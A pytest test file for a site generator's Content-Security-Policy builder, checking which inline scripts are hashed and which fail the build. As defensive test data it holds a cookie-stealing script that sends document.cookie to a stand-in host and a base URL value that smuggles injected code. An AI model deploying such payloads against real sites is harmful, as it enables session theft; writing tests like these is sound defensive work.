"""The Content-Security-Policy builder (scripts/sdw/csp.py) without a browser: which inline
scripts get a hash, which fail the build, and the settings written into our scripts.
Browser behaviour: tests/browser/test_csp.py."""

from __future__ import annotations

import re
from types import SimpleNamespace

import pytest
from conftest import ROOT
from mkdocs.exceptions import PluginError
from sdw import csp


def _config(**extra):
    return SimpleNamespace(extra=extra, theme=SimpleNamespace(custom_dir=str(ROOT / "overrides")))


# Material's partials/javascripts/base.html, as it renders ({base}: the page's base URL).
MD_BASE = ('__md_scope=new URL("{base}",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
           '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
           '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')

PAGE = """<!doctype html>
<html lang="nl" class="no-js">
  <head>
    <meta charset="utf-8">
    <title>Proef</title>
    <script>{md_base}</script>
    <script type="application/ld+json">{{"@type":"Article"}}</script>
    {extra}
  </head>
  <body><article>{body}</article>
    <script id="__config" type="application/json">{{"base":"{base}"}}</script>
    <script src="{base}/assets/javascripts/bundle.js"></script>
  </body>
</html>"""


def _page(base="..", body="<p>Tekst</p>", extra=""):
    return PAGE.format(md_base=MD_BASE.replace("{base}", base), base=base, body=body, extra=extra), body


def _policy(html: str) -> dict[str, list[str]]:
    content = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', html).group(1)
    return {p.split()[0]: p.split()[1:] for p in content.split(";")}


@pytest.mark.parametrize("base", [".", "..", "../../..", "/", "/sub/pad/"])
def test_materials_page_start_script_is_hashed_for_every_base_url(base):
    html, body = _page(base)
    out = csp.protect(html, body, _config(), "proef.md")
    script = re.search(r"<script>(.*?)</script>", html).group(1)
    assert _policy(out)["script-src"] == ["'self'", csp.script_hash(script)]
    head = out.split("<head>")[1].lstrip()
    assert head.startswith('<meta charset="utf-8">\n<meta http-equiv="Content-Security-Policy"')
    assert '<meta name="referrer" content="strict-origin-when-cross-origin">' in out


def test_a_script_in_the_body_is_never_hashed():
    html, body = _page(body='<p>x</p><script>alert(1)</script>')
    out = csp.protect(html, body, _config(), "proef.md")
    assert csp.script_hash("alert(1)") not in out
    assert len(_policy(out)["script-src"]) == 2


def test_an_unknown_inline_script_outside_the_body_fails_the_build():
    html, body = _page(extra="<script>fetch('https://elders.example/'+document.cookie)</script>")
    with pytest.raises(PluginError, match=r"proef\.md, line \d+\): an inline <script> outside the page body "
                                          r"matches none of Material's page-start scripts"):
        csp.protect(html, body, _config(), "proef.md")


def test_a_base_url_that_could_carry_code_is_not_a_known_shape():
    html, body = _page(base='.",alert(1),"')
    with pytest.raises(PluginError, match="matches none"):
        csp.protect(html, body, _config(), "proef.md")


@pytest.mark.parametrize("extra", ['<script type="text/x-sjabloon">x</script>', "<script>x"])
def test_odd_or_unclosed_scripts_outside_the_body_fail_the_build(extra):
    html, body = _page(extra=extra)
    with pytest.raises(PluginError, match="Content-Security-Policy"):
        csp.protect(html, body, _config(), "proef.md")


def test_endpoints_become_origins_in_connect_src_and_form_action():
    html, body = _page()
    config = _config(feedback={"endpoint": "https://feedback.example.org/antwoord?x=1"},
                     newsletter={"action": "https://lijst.example.org:8443/aanmelden"})
    policy = _policy(csp.protect(html, body, config, "proef.md"))
    assert policy["connect-src"] == ["'self'", "https://feedback.example.org"]
    assert policy["form-action"] == ["'self'", "https://lijst.example.org:8443"]
    assert "'unsafe-inline'" not in policy["script-src"] and "'unsafe-inline'" in policy["style-src"]


def test_the_preview_allows_inline_script_for_live_reload_only_when_asked():
    html, body = _page()
    assert _policy(csp.protect(html, body, _config(), "p", preview=True))["script-src"] == ["'self'", "'unsafe-inline'"]


def test_material_partials_are_read_from_the_installed_package():
    shapes = csp.allowed_shapes(str(ROOT / "overrides"))
    assert len(shapes) >= 5  # base, palette, content, announce, outdated, consent ...
    assert not list(csp.material_partials().glob("*.html")) == []


def test_settings_are_written_into_scripts_as_json_and_again_on_a_rebuild():
    source = 'var ENDPOINT = /* sdw:extra.feedback.endpoint */ "";\n'
    once = csp.set_script_setting(source, "extra.feedback.endpoint", 'https://x.example/"a"\u2028', "f.js")
    assert once == 'var ENDPOINT = /* sdw:extra.feedback.endpoint */ "https://x.example/\\"a\\"\\u2028";\n'
    assert csp.set_script_setting(once, "extra.feedback.endpoint", "", "f.js") == source
    with pytest.raises(PluginError, match="marker"):
        csp.set_script_setting("var ENDPOINT = '';", "extra.feedback.endpoint", "", "f.js")
